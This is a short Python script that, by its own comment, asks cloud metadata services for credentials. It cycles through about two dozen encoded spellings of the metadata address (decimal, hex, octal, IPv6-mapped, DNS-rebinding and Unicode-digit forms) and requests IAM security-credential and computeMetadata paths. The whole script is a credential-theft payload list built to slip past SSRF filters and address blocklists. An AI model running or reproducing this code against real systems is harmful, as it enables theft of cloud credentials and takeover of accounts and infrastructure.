# Asks the cloud's metadata service for credentials, in every spelling of its address.
import urllib.request

hosts = [
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "0xA9.0xFE.0xA9.0xFE",
    "169.254.43518",
    "169.16689662",
    "0251.254.169.254",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[0:0:0:0:0:ffff:a9fe:a9fe]",
    "[64:ff9b::a9fe:a9fe]",
    "[2002:a9fe:a9fe::]",
    "[fd00:ec2::254]",
    "[fe80::a9fe:a9fe%25lo]",
    "169.254.169.254.nip.io",
    "metadata.google.internal",
    "metadata",
    "instance-data",
    "instance-data.ec2.internal",
    "169.254.170.2",
    "100.100.100.200",
    "192.0.0.192",
    "169.254.169.253",
    "168.63.129.16",
    "169.254.169.254.",
    "①⑥⑨.②⑤④.①⑥⑨.②⑤④",
]
for host in hosts:
    for path in ("latest/meta-data/iam/security-credentials/", "computeMetadata/v1/"):
        attempt(
            host,
            lambda url: urllib.request.urlopen(url, timeout=0.5).read(200),
            f"http://{host}/{path}",
        )
